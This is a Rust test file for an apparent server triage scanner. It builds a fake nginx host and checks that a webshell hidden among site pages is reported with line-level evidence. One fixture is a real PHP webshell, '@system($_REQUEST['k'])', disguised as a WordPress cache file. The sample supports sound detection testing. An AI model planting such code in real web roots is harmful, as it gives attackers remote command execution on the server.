//! The web check runs the script analyzer over the scripts of the web roots it walks:
//! a webshell hidden among a site's pages is reported with its reasons; the pages are not.
//! `web_roots` gives `rampart scan` the same roots.

mod common;

use common::{expect_id, FakeHost};
use rampart_core::{HostRoot, Report};
use rampart_triage::checks::web::{web_roots, ProbeMode, Web};
use rampart_triage::{Check, Context, Options};

fn run(h: &FakeHost) -> Report {
    let ctx = Context::new(HostRoot::at(h.dir.path()).unwrap(), Options::default());
    rampart_triage::run(
        &ctx,
        &[Box::new(Web::probing(ProbeMode::Never)) as Box<dyn Check>],
    )
}

fn host() -> FakeHost {
    let h = FakeHost::new();
    h.write(
        "/etc/nginx/nginx.conf",
        "user www-data;\nhttp {\n  include sites-enabled/*;\n}\n",
    );
    h.write(
        "/etc/nginx/sites-enabled/site",
        "server {\n  listen 80;\n  root /var/www/site;\n  location /a/ { root /var/www/site/a; }\n}\n\
         server {\n  listen 81;\n  root /srv/$host;\n}\n",
    );
    h.write(
        "/var/www/site/index.php",
        "<?php\n$n = htmlspecialchars($_GET['n'] ?? '');\necho \"Hi $n\";\n",
    );
    h.write(
        "/var/www/site/wp-includes/class-cache.php",
        "<?php\n// cache\nif (isset($_REQUEST['k'])) {\n    @system($_REQUEST['k']);\n}\n",
    );
    h
}

#[test]
fn a_webshell_among_pages_is_reported_with_its_reasons() {
    let h = host();
    let r = run(&h);
    let f = expect_id(&r, "web.webshell");
    assert!(
        f.title.contains("/var/www/site/wp-includes/class-cache.php"),
        "{f:#?}"
    );
    assert!(!f.evidence.is_empty(), "{f:#?}");
    assert!(
        f.evidence.iter().any(|e| e.location.contains("class-cache.php:")),
        "a reason names its line: {f:#?}"
    );
    let shells: Vec<_> = r.findings.iter().filter(|f| f.id == "web.webshell").collect();
    assert_eq!(shells.len(), 1, "the page is not a webshell: {shells:#?}");
}

#[test]
fn web_roots_are_the_configured_trees() {
    let h = host();
    let roots = web_roots(&HostRoot::at(h.dir.path()).unwrap());
    assert_eq!(roots, vec!["/var/www/site".to_string()]);
}
